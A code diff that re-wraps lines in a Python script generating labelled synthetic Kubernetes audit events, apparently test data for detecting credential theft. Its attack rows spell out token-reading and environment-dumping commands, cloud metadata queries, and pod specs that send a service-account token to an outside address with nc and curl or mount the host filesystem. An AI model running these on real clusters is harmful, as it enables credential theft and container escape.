@@ -2,7 +2,8 @@
 """make_kubernetes_rows.py > tests/data/labelled-kubernetes.tsv: Kubernetes audit events, each labelled.
 
 Columns as in labelled-dev.tsv. The events are made up after what clusters of several providers write: many operators,
-kubelets, pipelines and people at work, and the ways to take credentials through the API. The seed is fixed, so that the
+kubelets, pipelines and people at work, and the ways to take credentials through the API. The seed is fixed,
+so that the
 file is always the same. Labels: attack; benign; gray, which the event alone does not decide.
 """
 import json
@@ -14,9 +15,11 @@ import uuid
 random.seed(20261123)
 
 START = 1795000000
-NAMESPACES = ["warehouse", "billing-eu", "checkout", "ml-train", "team-blue", "frontend", "orders", "iot", "hr", "mail",
+NAMESPACES = ["warehouse", "billing-eu", "checkout", "ml-train", "team-blue", "frontend", "orders", "iot", "hr",
+"mail",
               "lab-7", "prod", "default", "tenant-a", "video"]
-APPS = ["catalog", "mailer", "thumb", "ingest", "scheduler-ui", "gateway", "quotes", "worker", "session-api", "tracker"]
+APPS = ["catalog", "mailer", "thumb", "ingest", "scheduler-ui", "gateway", "quotes", "worker", "session-api",
+"tracker"]
 NAMES = ["db-main", "stripe", "regcred", "tls-wild", "oauth-client", "smtp", "s3-keys", "ldap", "redis", "signing-key"]
 PEOPLE = ["mia@firm.example", "oidc:noah", "arn:aws:sts::444455556666:assumed-role/Dev/ella", "liam.o@firm.example",
           "kube:admin", "IAM#ava@firm.example", "0f3b6c1e-7d1a-4c6e-9a54-1f1d2b3c4d5e", "https://idp.firm.example#zoe",
@@ -26,9 +29,11 @@ PUBLIC = ["203.0.113.8", "198.51.100.77", "2a02:8070::9", "192.0.2.14", "84.17.3
 PODS = ["10.244.1.8", "10.42.0.12", "10.60.2.9", "172.17.0.5", "192.168.101.33", "fd00:10:244::8"]
 KUBECTL = ["kubectl/v1.30.2 (linux/amd64) kubernetes/3968350", "kubectl/v1.26.0 (darwin/arm64) kubernetes/b46a3f8",
            "kubectl1.33/v1.33.1 (linux/arm64) kubernetes/8adc0f0", "oc/4.15.0 (linux/amd64) kubernetes/e93f5b8",
-           "kubectl.exe/v1.28.3 (windows/amd64) kubernetes/a8a1abc", "kubectl/v1.19.7 (linux/amd64) kubernetes/1dd5338"]
+           "kubectl.exe/v1.28.3 (windows/amd64) kubernetes/a8a1abc",
+           "kubectl/v1.19.7 (linux/amd64) kubernetes/1dd5338"]
 SCRIPTS = ["curl/7.68.0", "curl/8.9.1", "Wget/1.20.3 (linux-gnu)", "python-requests/2.28.2", "Python-urllib/3.11",
-           "Go-http-client/2.0", "okhttp/4.10.0", "axios/1.6.2", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
+           "Go-http-client/2.0", "okhttp/4.10.0", "axios/1.6.2",
+           "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
            "PostmanRuntime/7.36.0", "libwww-perl/6.67", "HTTPie/3.2.2", "aiohttp/3.9.5", "python-httpx/0.27.0",
            "Mozilla/5.0 (Windows NT; Windows NT 10.0; de-DE) WindowsPowerShell/5.1.22621.2506", "Ruby"]
 TOOLS = ["peirates/v0.0.0 (linux/amd64) kubernetes/$Format", "cdk/1.5.3", "kubeletctl/1.12", "kdigger/v1.5.1",
@@ -131,7 +136,8 @@ def secrets_uri(namespace=None, name=None, query=""):
     return f"/api/v1{middle}/secrets{'/' + name if name else ''}{query}"
 
 
-# ---- benign ----------------------------------------------------------------------------------------------------------
+
+# ---- benign ----
 
 CLIENT_GO = " (linux/amd64) kubernetes/$Format"
 OPERATORS = [
@@ -175,7 +181,8 @@ OPERATORS = [
     ("gitlab", "gitlab-runner", "gitlab-runner 17.1.0 linux/amd64"),
     ("tekton-pipelines", "tekton-pipelines-controller", "controller/v0.61.0" + CLIENT_GO),
     ("reloader", "reloader-reloader", "Reloader/v1.0.116" + CLIENT_GO),
-    ("vault-secrets-operator-system", "vault-secrets-operator-controller-manager", "vault-secrets-operator/0.8.0" + CLIENT_GO),
+    ("vault-secrets-operator-system", "vault-secrets-operator-controller-manager",
+          "vault-secrets-operator/0.8.0" + CLIENT_GO),
     ("bank-vaults", "vault-operator", "bank-vaults/1.31" + CLIENT_GO),
     ("dynatrace", "dynatrace-operator", "dynatrace-operator/v1.2.1" + CLIENT_GO),
     ("jaeger", "jaeger-operator", "manager/v1.58.0" + CLIENT_GO),
@@ -194,7 +201,8 @@ def benign_operators():
     for namespace, name, agent in OPERATORS:
         user, source = account(namespace, name), pick(PODS)
         version = random.randrange(10000, 9000000)
-        event("benign", "operator-list", "list", secrets_uri(query="?limit=500&resourceVersion=0"), user, agent, source)
+        event("benign", "operator-list", "list", secrets_uri(query="?limit=500&resourceVersion=0"), user, agent,
+              source)
         event("benign", "operator-watch", "watch",
               secrets_uri(query=f"?allowWatchBookmarks=true&resourceVersion={version}&timeoutSeconds=410&watch=true"),
               user, agent, source, stage=pick(["ResponseStarted", "ResponseComplete", "RequestReceived"]))
@@ -221,7 +229,8 @@ def benign_operators():
 
 
 def benign_cluster():
-    nodes = ["ip-10-0-3-4.eu-west-1.compute.internal", "aks-pool1-1234-vmss000002", "gke-blue-default-pool-77af-x1", "n4"]
+    nodes = ["ip-10-0-3-4.eu-west-1.compute.internal", "aks-pool1-1234-vmss000002", "gke-blue-default-pool-77af-x1",
+    "n4"]
     for node in nodes:
         user, agent, source = "system:node:" + node, "kubelet/v1.30.1 (linux/amd64) kubernetes/6911225", pick(PRIVATE)
         name = pick(NAMES)
@@ -249,10 +258,12 @@ def benign_cluster():
                  "generic-garbage-collector", "resourcequota-controller", "root-ca-cert-publisher"):
         user = account("kube-system", name)
         agent = manager + "/" + user
-        event("benign", "controller", "list", secrets_uri(query="?limit=500&resourceVersion=0"), user, agent, "10.0.0.2")
+        event("benign", "controller", "list", secrets_uri(query="?limit=500&resourceVersion=0"), user, agent,
+              "10.0.0.2")
         event("benign", "controller", "create", f"/api/v1/namespaces/kube-system/serviceaccounts/{name}/token",
               "system:kube-controller-manager", manager + "/kube-controller-manager", "127.0.0.1", 201)
-    event("benign", "controller", "deletecollection", secrets_uri("lab-7"), account("kube-system", "namespace-controller"),
+    event("benign", "controller", "deletecollection", secrets_uri("lab-7"), account("kube-system",
+          "namespace-controller"),
           manager + "/" + account("kube-system", "namespace-controller"), "10.0.0.2")
     event("benign", "controller", "create", "/api/v1/namespaces/monitoring/pods",
           account("kube-system", "daemon-set-controller"), manager + "/daemon-set-controller", "10.0.0.2", 201,
@@ -268,7 +279,8 @@ def benign_cluster():
                         ("system:cloud-controller-manager", "cloud-controller-manager/v1.30"),
                         ("system:k3s-controller", "k3s/v1.30.2+k3s1 (linux/amd64) kubernetes/faeaf1b")):
         event("benign", "provider", "list", secrets_uri(query="?limit=500&resourceVersion=0"), user, agent, "10.0.0.2")
-        event("benign", "provider", "get", "/api/v1/namespaces/kube-system/configmaps/extension-apiserver-authentication",
+        event("benign", "provider", "get",
+              "/api/v1/namespaces/kube-system/configmaps/extension-apiserver-authentication",
               user, agent, "10.0.0.2")
     event("benign", "approve", "update", "/apis/certificates.k8s.io/v1/certificatesigningrequests/csr-x1/approval",
           account("kube-system", "certificate-controller"), manager + "/certificate-controller", "10.0.0.2")
@@ -281,7 +293,8 @@ def benign_cluster():
     for path, agent in (("/readyz", "kube-probe/1.30"), ("/livez?verbose", "GoogleHC/1.0"), ("/version", "curl/8.5.0"),
                         ("/healthz", "ELB-HealthChecker/2.0"), ("/", "Mozilla/5.0"), ("/.env", "python-requests/2.31"),
                         ("/api", "Go-http-client/1.1")):
-        event("benign", "nonresource", "get", path, "system:anonymous", agent, pick(PRIVATE + PUBLIC), pick([200, 403]))
+        event("benign", "nonresource", "get", path, "system:anonymous", agent, pick(PRIVATE + PUBLIC), pick([200,
+              403]))
     for namespace, name, agent in (("monitoring", "prometheus-k8s", "Prometheus/2.53.0"),
                                    ("datadog", "datadog", "datadog-agent/7.55"),
                                    ("kube-system", "metrics-server", "metrics-server/v0.7.1" + CLIENT_GO),
@@ -322,12 +335,14 @@ ROUTINE = [
     ("get", "/api/v1/namespaces/{n}/pods/secrets-rotator-7c9f/log?tailLines=50"),
     ("get", "/api/v1/namespaces/{n}/configmaps/{a}-config"), ("delete", "/api/v1/namespaces/{n}/pods/{a}-0"),
     ("get", "/api/v1/namespaces/{n}/pods/{a}-0/log?container=app&follow=true"), ("get", "/api/v1/namespaces/{n}"),
-    ("create", "/api/v1/namespaces/{n}/pods/{a}-0/portforward"), ("get", "/api/v1/namespaces/{n}/pods/{a}-0/portforward"),
+    ("create", "/api/v1/namespaces/{n}/pods/{a}-0/portforward"), ("get",
+          "/api/v1/namespaces/{n}/pods/{a}-0/portforward"),
     ("create", "/api/v1/namespaces/monitoring/pods/grafana-7d4b/portforward"),
     ("list", "/apis/rbac.authorization.k8s.io/v1/clusterroles?limit=500"), ("get", "/openapi/v3?timeout=32s"),
     ("create", "/api/v1/namespaces/{n}/configmaps?fieldManager=kubectl-create"),
     ("get", "/api/v1/nodes/n3/proxy/stats/summary"), ("list", "/api/v1/persistentvolumes?limit=500"),
-    ("delete", "/api/v1/namespaces/{n}/secrets/old-one"), ("create", "/api/v1/namespaces/{n}/secrets?fieldManager=kubectl-create"),
+    ("delete", "/api/v1/namespaces/{n}/secrets/old-one"), ("create",
+          "/api/v1/namespaces/{n}/secrets?fieldManager=kubectl-create"),
 ]
 EVERYDAY = [
     ["ls", "-la", "/app"], ["date"], ["ps", "aux"], ["nginx", "-s", "reload"], ["cat", "/etc/nginx/nginx.conf"],
@@ -337,7 +352,8 @@ EVERYDAY = [
     ["sh", "-c", "df -h && free -m"], ["kill", "-HUP", "1"], ["du", "-sh", "/data"], ["rabbitmqctl", "list_queues"],
     ["sh", "-c", "ls /run/secrets"], ["/bin/sh", "-c", "nginx -t && nginx -s reload"], ["cat", "/proc/meminfo"],
     ["nslookup", "kubernetes.default"], ["mysqladmin", "ping"], ["wget", "-qO-", "http://localhost/metrics"],
-    ["grep", "ERROR", "/var/log/app/app.log"], ["bundle", "exec", "rake", "db:migrate"], ["php", "artisan", "queue:restart"],
+    ["grep", "ERROR", "/var/log/app/app.log"], ["bundle", "exec", "rake", "db:migrate"], ["php", "artisan",
+    "queue:restart"],
     ["jstack", "1"], ["kafka-topics.sh", "--list", "--bootstrap-server", "localhost:9092"], ["uptime"], ["ip", "addr"],
     ["sh", "-c", "test -f /tmp/ready"], ["touch", "/tmp/maintenance"], ["cat", "/app/VERSION"], ["pg_isready"],
 ]
@@ -355,19 +371,24 @@ def benign_people():
         namespace, name, at = ns(), pick(NAMES), START - 86400 + len(rows)
         event("benign", "apply", "get", secrets_uri(namespace, name), user, agent, "10.9.3.17", at=at)
         event("benign", "apply", "patch",
-              secrets_uri(namespace, name, "?fieldManager=kubectl-client-side-apply&fieldValidation=Strict"), user, agent,
+              secrets_uri(namespace, name, "?fieldManager=kubectl-client-side-apply&fieldValidation=Strict"), user,
+              agent,
               "10.9.3.17", at=at)
-        event("benign", "apply", "patch", secrets_uri(namespace, name, "?fieldManager=kubectl&force=true"), user, agent,
+        event("benign", "apply", "patch", secrets_uri(namespace, name, "?fieldManager=kubectl&force=true"), user,
+              agent,
               "10.9.3.17")
-        event("benign", "deploy", "create", f"/apis/apps/v1/namespaces/{namespace}/deployments", user, agent, "10.9.3.17",
+        event("benign", "deploy", "create", f"/apis/apps/v1/namespaces/{namespace}/deployments", user, agent,
+              "10.9.3.17",
               201, body={"kind": "Deployment", "metadata": {"name": "web"}, "spec": {"template": {"spec": {
                   "serviceAccountName": "web", "volumes": [{"secret": {"secretName": "db-main"}}], "containers": [
                       {"name": "c", "command": ["node", "server.js"], "env": [{"name": "P", "valueFrom": {
                           "secretKeyRef": {"name": "db-main", "key": "p"}}}]}]}}}})
-        event("benign", "deploy", "get", f"/api/v1/namespaces/{namespace}/serviceaccounts/web", user, agent, "10.9.3.17")
+        event("benign", "deploy", "get", f"/api/v1/namespaces/{namespace}/serviceaccounts/web", user, agent,
+              "10.9.3.17")
     for user in (account("ci", "helm"), account("gitlab", "deployer"), account("jenkins", "releaser")):
         namespace = ns()
-        event("benign", "helm", "list", secrets_uri(namespace, query="?labelSelector=owner%3Dhelm%2Cname%3Dshop"), user,
+        event("benign", "helm", "list", secrets_uri(namespace, query="?labelSelector=owner%3Dhelm%2Cname%3Dshop"),
+              user,
               "Helm/3.15.2", "10.60.2.9")
         event("benign", "helm", "get", secrets_uri(namespace, "sh.helm.release.v1.shop.v9"), user, "Helm/3.15.2",
               "10.60.2.9")
@@ -383,35 +404,44 @@ def benign_people():
     event("benign", "oc", "create", "/apis/user.openshift.io/v1/users/~", "kube:admin", KUBECTL[3], "10.9.3.17", 405)
 
 
-# ---- attacks ---------------------------------------------------------------------------------------------------------
+
+# ---- attacks ----
 
 TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
 STEALING = [
     ["cat", TOKEN], ["cat", "/run/secrets/kubernetes.io/serviceaccount/token"], ["base64", "-w0", TOKEN], ["env"],
-    ["printenv"], ["printenv", "DB_PASSWORD"], ["sh", "-c", "env | sort"], ["/bin/bash", "-c", "printenv|grep -i pass"],
-    ["sh", "-c", "cat /var/run/secrets/*/serviceaccount/*"], ["strings", "/proc/1/environ"], ["cat", "/proc/1/environ"],
+    ["printenv"], ["printenv", "DB_PASSWORD"], ["sh", "-c", "env | sort"], ["/bin/bash", "-c",
+    "printenv|grep -i pass"],
+    ["sh", "-c", "cat /var/run/secrets/*/serviceaccount/*"], ["strings", "/proc/1/environ"], ["cat",
+    "/proc/1/environ"],
     ["sh", "-c", "tr '\\0' '\\n' < /proc/self/environ"], ["tar", "cf", "-", "/run/secrets"], ["sh", "-c", "set"],
-    ["tar", "czf", "-", "/var/run/secrets/kubernetes.io"], ["find", "/run/secrets", "-type", "f", "-exec", "cat", "{}", "+"],
+    ["tar", "czf", "-", "/var/run/secrets/kubernetes.io"], ["find", "/run/secrets", "-type", "f", "-exec", "cat",
+    "{}", "+"],
     ["sh", "-c", "cd /run/secrets/kubernetes.io/serviceaccount && cat token"], ["xxd", "-p", TOKEN],
     ["python3", "-c", "import os;print(os.environ)"], ["node", "-e", "console.log(process.env)"],
     ["python", "-c", "print(open('" + TOKEN + "').read())"], ["dd", "if=" + TOKEN], ["awk", "1", TOKEN],
     ["sed", "-n", "p", "/run/secrets/kubernetes.io/serviceaccount/token"], ["bash", "-c", "export -p"],
-    ["sh", "-c", "curl -sk -H \"Authorization: Bearer $(cat " + TOKEN + ")\" https://kubernetes.default/api/v1/secrets"],
+    ["sh", "-c",
+    "curl -sk -H \"Authorization: Bearer $(cat " + TOKEN + ")\" https://kubernetes.default/api/v1/secrets"],
     ["curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"],
     ["curl", "-H", "Metadata-Flavor: Google",
      "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"],
-    ["etcdctl", "get", "/registry/secrets", "--prefix"], ["cat", "/root/.aws/credentials"], ["cat", "/vault/secrets/db"],
+    ["etcdctl", "get", "/registry/secrets", "--prefix"], ["cat", "/root/.aws/credentials"], ["cat",
+    "/vault/secrets/db"],
     ["sh", "-c", "echo Y2F0IC9ydW4vc2VjcmV0cy9rdWJlcm5ldGVzLmlvL3NlcnZpY2VhY2NvdW50L3Rva2Vu | base64 -d | sh"],
     ["cat", "/app/.env"], ["cat", "/mnt/secrets-store/db-password"], ["cp", "/run/secrets/db", "/dev/stdout"],
-    ["cat", "/etc/kubernetes/admin.conf"], ["sh", "-c", "head -c 9999 /var//run/./secrets/kubernetes.io/serviceaccount/token"],
-    ["kubectl", "get", "secrets", "-A"], ["cat", "/home/app/.kube/config"], ["tail", "-c", "+0", "/etc/app-secrets/key"],
+    ["cat", "/etc/kubernetes/admin.conf"], ["sh", "-c",
+    "head -c 9999 /var//run/./secrets/kubernetes.io/serviceaccount/token"],
+    ["kubectl", "get", "secrets", "-A"], ["cat", "/home/app/.kube/config"], ["tail", "-c", "+0",
+    "/etc/app-secrets/key"],
     ["vault", "kv", "get", "secret/db"], ["more", "/run/secrets/eks.amazonaws.com/serviceaccount/token"],
 ]
 
 
 def attack_secrets():
     for _ in range(6):
-        event("attack", "human-list-all", "list", secrets_uri(query=pick(["?limit=500", "", "?limit=1000&continue=ab"])),
+        event("attack", "human-list-all", "list", secrets_uri(query=pick(["?limit=500", "",
+              "?limit=1000&continue=ab"])),
               pick(PEOPLE), pick(KUBECTL), pick(PRIVATE + PUBLIC), pick([200, 200, 403]))
         event("attack", "human-list-ns", pick(["list", "watch"]), secrets_uri(ns(), query="?limit=500"), pick(PEOPLE),
               pick(KUBECTL), pick(PRIVATE + PUBLIC), pick([200, 403]))
@@ -428,7 +458,8 @@ def attack_secrets():
               pick(SCRIPTS + KUBECTL + TOOLS), pick(PODS + PUBLIC), pick([200, 200, 403]))
     for agent in TOOLS + ["Mozilla/5.0 (X11; Linux x86_64) Chrome/120", "k9s/v0.32.5" + CLIENT_GO, "Lens/2024.7", None,
                           "OpenAPI-Generator/29.0.0/python", "kubernetes-client/0.22 javascript", "xmrig/6"]:
-        event("attack", "client", "list", secrets_uri(), pick([account("iot", "tracker"), account("default", "default")])
+        event("attack", "client", "list", secrets_uri(), pick([account("iot", "tracker"), account("default",
+              "default")])
               if agent not in ("k9s/v0.32.5" + CLIENT_GO, "Lens/2024.7") else pick(PEOPLE), agent, pick(PODS), 200)
     event("attack", "renamed-kubectl", "list", secrets_uri("prod"), pick(PEOPLE),
           "kc/v1.30.2 (linux/amd64) kubernetes/3968350", "10.9.3.17")
@@ -443,9 +474,11 @@ def attack_secrets():
     event("attack", "old-api", "list", secrets_uri(), pick(PEOPLE), KUBECTL[5], "10.9.3.17", version="v1beta1")
     event("attack", "delete-all", "deletecollection", secrets_uri("hr"), pick(PEOPLE), KUBECTL[0], "10.9.3.17")
     event("attack", "bad-token", "list", secrets_uri("default"), "", "curl/7.88.1", "10.42.0.12", 401)
-    for user, agent, uri in (("system:node:n4", "curl/8.1", secrets_uri()), ("system:node:n4", KUBECTL[0], secrets_uri("prod")),
+    for user, agent, uri in (("system:node:n4", "curl/8.1", secrets_uri()), ("system:node:n4", KUBECTL[0],
+          secrets_uri("prod")),
                              ("system:node:n4", "kubelet/v1.30.1 (linux/amd64) kubernetes/6911225", secrets_uri()),
-                             ("system:node:n4", "kubelet/v1.30.1 (linux/amd64) kubernetes/6911225", secrets_uri("kube-system")),
+                             ("system:node:n4", "kubelet/v1.30.1 (linux/amd64) kubernetes/6911225",
+                                   secrets_uri("kube-system")),
                              ("system:kube-controller-manager", KUBECTL[0], secrets_uri()),
                              ("system:kube-scheduler", "curl/8.1", secrets_uri("kube-system")),
                              ("system:bootstrap:abcdef", KUBECTL[0], secrets_uri("kube-system")),
@@ -458,19 +491,23 @@ def attack_secrets():
     event("attack", "anonymous", "create", "/api/v1/namespaces/default/pods", "system:anonymous", "python-requests/2",
           "203.0.113.8", 201)
     event("attack", "wrapped", "list", secrets_uri(), "masterclient", KUBECTL[0], "10.9.3.17", wrap="aks")
-    event("attack", "wrapped", "list", secrets_uri("hr"), account("iot", "tracker"), "curl/8.1", "10.9.3.17", wrap="cloudwatch")
+    event("attack", "wrapped", "list", secrets_uri("hr"), account("iot", "tracker"), "curl/8.1", "10.9.3.17",
+          wrap="cloudwatch")
     event("attack", "helm-values", "get", secrets_uri("prod", "sh.helm.release.v1.pay.v3"), account("iot", "tracker"),
           "curl/8.1", "10.42.0.12")
     for as_user, groups in (("system:admin", ["system:masters"]), ("root", ["system:masters"]),
-                            (account("kube-system", "clusterrole-aggregation-controller"), None), ("system:node:n1", None)):
-        event("attack", "impersonation", "list", secrets_uri(pick([None, "kube-system"])), pick(PEOPLE[:4]), pick(KUBECTL),
+                            (account("kube-system", "clusterrole-aggregation-controller"), None), ("system:node:n1",
+                                  None)):
+        event("attack", "impersonation", "list", secrets_uri(pick([None, "kube-system"])), pick(PEOPLE[:4]),
+              pick(KUBECTL),
               pick(PRIVATE), pick([200, 403]), as_user=as_user, as_groups=groups)
         event("attack", "impersonation", "create", exec_uri("prod", ["id"]), pick(PEOPLE[:4]), pick(KUBECTL),
               pick(PRIVATE), 101, as_user=as_user, as_groups=groups)
 
 
 def attack_tokens():
-    body = {"kind": "TokenRequest", "spec": {"audiences": None, "expirationSeconds": 315360000, "boundObjectRef": None}}
+    body = {"kind": "TokenRequest", "spec": {"audiences": None, "expirationSeconds": 315360000,
+    "boundObjectRef": None}}
     for user, agent in ((PEOPLE[0], KUBECTL[0]), (PEOPLE[4], KUBECTL[3]), (account("iot", "tracker"), "curl/8.1"),
                         (account("iot", "tracker"), KUBECTL[1]), (account("hr", "mailer"), TOOLS[0]),
                         ("system:node:n4", "curl/8.1"), (account("ci", "deployer"), "python-requests/2.31"),
@@ -489,7 +526,8 @@ def attack_tokens():
                                   ("selfsubjectrulesreviews", account("hr", "mailer"), TOOLS[3]),
                                   ("selfsubjectaccessreviews", account("hr", "mailer"), "python-requests/2.31"),
                                   ("selfsubjectaccessreviews", PEOPLE[1], KUBECTL[1])):
-        event("attack", "what-may-i", "create", "/apis/authorization.k8s.io/v1/" + resource, user, agent, pick(PRIVATE),
+        event("attack", "what-may-i", "create", "/apis/authorization.k8s.io/v1/" + resource, user, agent,
+              pick(PRIVATE),
               201, body={"kind": "x", "spec": {"namespace": "default", "resourceAttributes": {
                   "verb": "get", "resource": "secrets"}}})
     event("attack", "what-may-i", "create", "/apis/authentication.k8s.io/v1/selfsubjectreviews",
@@ -499,11 +537,13 @@ def attack_tokens():
               "signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"]}})
     event("attack", "certificate", "update", "/apis/certificates.k8s.io/v1/certificatesigningrequests/me/approval",
           PEOPLE[3], KUBECTL[0], "10.9.3.17")
-    event("attack", "openshift", "list", "/apis/oauth.openshift.io/v1/oauthaccesstokens?limit=500", PEOPLE[4], KUBECTL[3],
+    event("attack", "openshift", "list", "/apis/oauth.openshift.io/v1/oauthaccesstokens?limit=500", PEOPLE[4],
+          KUBECTL[3],
           "10.9.3.17")
     event("attack", "rancher", "list", "/apis/management.cattle.io/v3/tokens?limit=500", PEOPLE[11], KUBECTL[0],
           "10.9.3.17")
-    event("attack", "gardener", "create", "/apis/core.gardener.cloud/v1beta1/namespaces/garden-x/shoots/y/adminkubeconfig",
+    event("attack", "gardener", "create",
+          "/apis/core.gardener.cloud/v1beta1/namespaces/garden-x/shoots/y/adminkubeconfig",
           PEOPLE[0], KUBECTL[0], "10.9.3.17", 201)
     event("attack", "accounts", "list", "/api/v1/serviceaccounts", account("iot", "tracker"), "curl/8.1", "10.42.0.12")
     event("attack", "accounts", "list", "/api/v1/namespaces/kube-system/serviceaccounts", account("iot", "tracker"),
@@ -513,32 +553,41 @@ def attack_tokens():
 def attack_pods():
     for words in STEALING:
         user = pick(PEOPLE + [account("iot", "tracker")])
-        event("attack", "exec", pick(["get", "create"]), exec_uri(ns(), words), user, pick(KUBECTL), pick(PRIVATE), 101,
+        event("attack", "exec", pick(["get", "create"]), exec_uri(ns(), words), user, pick(KUBECTL), pick(PRIVATE),
+              101,
               stage=pick(["ResponseStarted", "ResponseComplete", "RequestReceived"]))
-    for name, namespace in (("etcd-master-0", "kube-system"), ("vault-0", "vault"), ("kube-apiserver-cp1", "kube-system"),
+    for name, namespace in (("etcd-master-0", "kube-system"), ("vault-0", "vault"), ("kube-apiserver-cp1",
+          "kube-system"),
                             ("etcd-0", "openshift-etcd")):
-        event("attack", "port-forward", pick(["get", "create"]), f"/api/v1/namespaces/{namespace}/pods/{name}/portforward",
+        event("attack", "port-forward", pick(["get", "create"]),
+              f"/api/v1/namespaces/{namespace}/pods/{name}/portforward",
               pick(PEOPLE), pick(KUBECTL), pick(PRIVATE), 101)
     for command in (["cat", "/proc/1/root" + TOKEN], ["sh", "-c", "cat /proc/1/environ"]):
         event("attack", "debug", "patch", f"/api/v1/namespaces/{ns()}/pods/{pod()}/ephemeralcontainers", pick(PEOPLE),
               pick(KUBECTL), pick(PRIVATE), body={"spec": {"ephemeralContainers": [
                   {"name": "d", "image": "busybox", "targetContainerName": "app", "command": command}]}})
     pods = [
-        {"containers": [{"name": "x", "image": "alpine", "command": ["sh", "-c"], "args": ["cat " + TOKEN + " | nc 203.0.113.4 80"]}]},
-        {"containers": [{"name": "x", "image": "curlimages/curl", "args": ["-F", "t=@" + TOKEN, "http://203.0.113.4"]}]},
-        {"hostPID": True, "containers": [{"name": "x", "command": ["nsenter", "-t", "1", "-m", "cat", "/etc/kubernetes/admin.conf"],
+        {"containers": [{"name": "x", "image": "alpine", "command": ["sh", "-c"],
+        "args": ["cat " + TOKEN + " | nc 203.0.113.4 80"]}]},
+        {"containers": [{"name": "x", "image": "curlimages/curl", "args": ["-F", "t=@" + TOKEN,
+        "http://203.0.113.4"]}]},
+        {"hostPID": True, "containers": [{"name": "x", "command": ["nsenter", "-t", "1", "-m", "cat",
+        "/etc/kubernetes/admin.conf"],
                                           "securityContext": {"privileged": True}}]},
-        {"volumes": [{"hostPath": {"path": "/"}, "name": "h"}], "containers": [{"name": "x", "command": ["sleep", "9d"]}]},
+        {"volumes": [{"hostPath": {"path": "/"}, "name": "h"}], "containers": [{"name": "x", "command": ["sleep",
+        "9d"]}]},
         {"volumes": [{"hostPath": {"path": "/var/lib/kubelet/pods"}, "name": "h"}], "containers": [{"name": "x"}]},
         {"volumes": [{"hostPath": {"path": "/var/run/docker.sock"}, "name": "h"}], "containers": [{"name": "x"}]},
         {"volumes": [{"hostPath": {"path": "/etc/kubernetes"}, "name": "h"}], "containers": [{"name": "x"}]},
         {"serviceAccountName": "cluster-admin", "containers": [{"name": "x", "command": ["sleep", "1d"]}]},
     ]
     for spec in pods:
-        event("attack", "pod", "create", f"/api/v1/namespaces/{ns()}/pods?fieldManager=kubectl-{pick(['run', 'create'])}",
+        event("attack", "pod", "create",
+              f"/api/v1/namespaces/{ns()}/pods?fieldManager=kubectl-{pick(['run', 'create'])}",
               pick(PEOPLE + [account("iot", "tracker")]), pick(KUBECTL), pick(PRIVATE), 201,
               body={"kind": "Pod", "metadata": {"name": "x"}, "spec": spec})
-    event("attack", "workload", "create", "/apis/batch/v1/namespaces/prod/cronjobs", PEOPLE[0], KUBECTL[0], "10.9.3.17",
+    event("attack", "workload", "create", "/apis/batch/v1/namespaces/prod/cronjobs", PEOPLE[0], KUBECTL[0],
+          "10.9.3.17",
           201, body={"kind": "CronJob", "spec": {"jobTemplate": {"spec": {"template": {"spec": pods[0]}}}}})
     event("attack", "workload", "create", "/apis/apps/v1/namespaces/kube-system/daemonsets", account("iot", "tracker"),
           "curl/8.1", "10.42.0.12", 201, body={"kind": "DaemonSet", "spec": {"template": {"spec": pods[3]}}})
@@ -548,14 +597,18 @@ def attack_pods():
               pick(PODS + PUBLIC))
     for user, agent in ((PEOPLE[0], KUBECTL[0]), (account("iot", "tracker"), "curl/8.1")):
         event("attack", "configmaps", "list", "/api/v1/configmaps?limit=500", user, agent, pick(PRIVATE))
-    event("attack", "configmaps", "get", "/api/v1/namespaces/kube-system/configmaps/aws-auth", account("iot", "tracker"),
+    event("attack", "configmaps", "get", "/api/v1/namespaces/kube-system/configmaps/aws-auth", account("iot",
+          "tracker"),
           "curl/8.1", "10.42.0.12")
     for path, verb, user, agent in (
             ("pods", "get", PEOPLE[0], KUBECTL[0]), ("runningpods/", "get", account("iot", "tracker"), "curl/8.1"),
-            ("run/prod/web-0/app", "create", account("iot", "tracker"), "curl/8.1"), ("configz", "get", PEOPLE[1], "curl/8"),
-            ("containerLogs/prod/web-0/app", "get", PEOPLE[2], KUBECTL[1]), ("exec/prod/web-0/app?command=env", "create", PEOPLE[3], "curl/8"),
+            ("run/prod/web-0/app", "create", account("iot", "tracker"), "curl/8.1"), ("configz", "get", PEOPLE[1],
+                  "curl/8"),
+            ("containerLogs/prod/web-0/app", "get", PEOPLE[2], KUBECTL[1]), ("exec/prod/web-0/app?command=env",
+                  "create", PEOPLE[3], "curl/8"),
             ("logs/", "get", PEOPLE[0], KUBECTL[0]), ("metrics", "get", "system:anonymous", "curl/8.1")):
-        event("attack", "node-proxy", verb, f"/api/v1/nodes/n{random.randrange(9)}/proxy/{path}", user, agent, pick(PRIVATE))
+        event("attack", "node-proxy", verb, f"/api/v1/nodes/n{random.randrange(9)}/proxy/{path}", user, agent,
+              pick(PRIVATE))
     event("attack", "service-proxy", "get", "/api/v1/namespaces/vault/services/vault:8200/proxy/v1/secret/data/db",
           PEOPLE[0], KUBECTL[0], "10.9.3.17")
     event("attack", "pod-proxy", "get", "/api/v1/namespaces/prod/pods/api-0:8080/proxy/actuator/env", PEOPLE[0],
@@ -571,10 +624,13 @@ def gray():
           KUBECTL[0], "10.9.3.17", 101)
     event("gray", "debug", "patch", "/api/v1/namespaces/lab-7/pods/x-0/ephemeralcontainers", PEOPLE[0], KUBECTL[0],
           "10.9.3.17", body={"spec": {"ephemeralContainers": [{"name": "d", "image": "busybox", "command": ["sh"]}]}})
-    event("gray", "helm-people", "list", secrets_uri("prod", query="?labelSelector=owner%3Dhelm"), PEOPLE[0], "Helm/3.15.2",
+    event("gray", "helm-people", "list", secrets_uri("prod", query="?labelSelector=owner%3Dhelm"), PEOPLE[0],
+          "Helm/3.15.2",
           "10.9.3.17")
-    event("gray", "configmaps", "list", "/api/v1/namespaces/prod/configmaps?limit=500", PEOPLE[0], KUBECTL[0], "10.9.3.17")
-    event("gray", "accounts", "list", "/api/v1/namespaces/prod/serviceaccounts?limit=500", PEOPLE[0], KUBECTL[0], "10.9.3.17")
+    event("gray", "configmaps", "list", "/api/v1/namespaces/prod/configmaps?limit=500", PEOPLE[0], KUBECTL[0],
+          "10.9.3.17")
